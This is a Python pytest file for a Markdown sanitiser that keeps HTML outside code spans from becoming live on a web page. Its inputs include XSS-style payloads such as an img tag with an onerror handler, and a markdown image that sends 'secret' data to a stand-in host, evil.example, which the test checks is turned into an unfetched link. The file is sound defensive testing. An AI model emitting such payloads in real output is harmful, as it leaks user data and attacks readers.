"""Message text to the Markdown the page renders: code stays code, nothing else becomes HTML."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from app.web.page.rendering import safe_markdown

# CommonMark with raw HTML allowed, like the page's renderer: what survives as HTML here would be live there
MARKDOWN = MarkdownIt("commonmark", {"html": True})


def html_of(text: str) -> str:
    return MARKDOWN.render(safe_markdown(text).markdown)


@pytest.mark.parametrize("text", [
    "plain <b>bold</b> & <img src=x onerror=alert(1)>",
    "\\`<form><input><img src=x><a href=//evil>`",  # an escaped backtick opens no code span
    "\\\\`<i>in code</i>` <b>out</b>",  # an escaped backslash, then a real code span
    "`a\n<img src=x>\nb`",  # code spans never cross lines here
    "| `a | <img src=x> |` |",  # nor table pipes
    "<img src=\"`\" onerror=x>`text`",  # a tag that would swallow a backtick is escaped first
    "<!-- comment --> <?php ?> <![CDATA[ x ]]>",
])
def test_html_outside_code_is_never_live(text):
    rendered = html_of(text)
    for tag in ("<b>", "<img", "<form", "<input", "<a href=\"//evil", "<!--", "<?php", "<![CDATA"):
        assert tag not in rendered, (text, rendered)


def test_code_is_shown_literally_and_escaped_once():
    rendered = html_of("Use `a < b && c` or:\n\n```html\n<p>x &amp; y</p>\n```\nthen <b>")
    assert "<code>a &lt; b &amp;&amp; c</code>" in rendered
    assert "&lt;p&gt;x &amp;amp; y&lt;/p&gt;" in rendered  # what the model wrote, shown as written
    assert "&amp;lt;" not in rendered.replace("&amp;amp;", "")
    assert "then &lt;b&gt;" in rendered


def test_an_unclosed_fence_is_code_and_is_closed():
    result = safe_markdown("Here:\n\n```python\nif a < b:\n    pass")
    assert result.open_fence and result.markdown.endswith("\n```")
    rendered = MARKDOWN.render(result.markdown + "\n\n*cut at the limit*")
    assert "if a &lt; b:" in rendered and "&amp;lt;" not in rendered
    assert rendered.index("</pre>") < rendered.index("cut at the limit")  # the note is outside the code


@pytest.mark.parametrize("fence, closing", [("````", "```"), ("~~~", "```")])
def test_a_fence_closes_only_with_its_own_kind(fence, closing):
    result = safe_markdown(f"{fence}\n<x>\n{closing}\n<y>")
    assert result.open_fence and "<y>" in result.markdown  # still inside the code block


def test_images_become_links_and_are_never_fetched():
    rendered = html_of("![leak](http://evil.example/p.gif?d=secret) `![code](stays)`")
    assert "<img" not in rendered and 'href="http://evil.example/p.gif?d=secret"' in rendered
    assert "<code>![code](stays)</code>" in rendered


def test_blockquotes_and_ordinary_markdown_still_work():
    rendered = html_of("> quoted\n\n**bold** and *em*, 3 > 2")
    assert "<blockquote>" in rendered and "<strong>bold</strong>" in rendered and "3 &gt; 2" in rendered
